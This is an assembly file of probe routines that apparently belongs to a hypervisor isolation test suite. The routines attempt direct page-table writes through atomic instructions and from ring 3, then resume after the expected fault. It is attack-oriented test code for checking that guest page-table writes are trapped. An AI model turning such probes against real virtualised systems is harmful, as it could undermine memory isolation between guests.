/*
 * ptwr_probes: the direct page-table writes of attack/ptwr.c other than a
 * plain mov, each resuming after the #PF when it raises one. They write
 * ptwr_probe_hi:ptwr_probe_lo at ptwr_probe_va (the entry).
 */
#include "asm.h"

    .data
    .globl ptwr_probe_va, ptwr_probe_lo, ptwr_probe_hi
ptwr_probe_va: .long 0
ptwr_probe_lo: .long 0
ptwr_probe_hi: .long 0

    .section .text.probe, "ax"
/* lock cmpxchg8b: expects the entry to be 0 */
    .globl probe_cx8
probe_cx8:
    pushl %ebx
    pushl %esi
    movl ptwr_probe_va, %esi
    movl ptwr_probe_lo, %ebx
    movl ptwr_probe_hi, %ecx
    xorl %eax, %eax
    xorl %edx, %edx
1:  lock cmpxchg8b (%esi)
2:  popl %esi
    popl %ebx
    ret
    PROBE 1b, 2b

/* xchg of the low half */
    .globl probe_xchg
probe_xchg:
    movl ptwr_probe_va, %edx
    movl ptwr_probe_lo, %eax
1:  xchgl %eax, (%edx)
2:  ret
    PROBE 1b, 2b

/* lock or into the low half */
    .globl probe_lock_or
probe_lock_or:
    movl ptwr_probe_va, %edx
    movl ptwr_probe_lo, %eax
1:  lock orl %eax, (%edx)
2:  ret
    PROBE 1b, 2b

/* Ring 3 (user_setup maps this page with the user bit): a direct write of
 * a not-present entry (valid for ring 1) into entry 3 of our L1, mapped
 * read-only with the user bit at 0x3E2000 by attack/ptwr.c. */
    .section .user.text, "ax"
    .globl r3_ptwr_write
r3_ptwr_write:
    movl $0x200, %eax
    movl %eax, 0x3E2018
    movl $0, %eax
    int $0x80
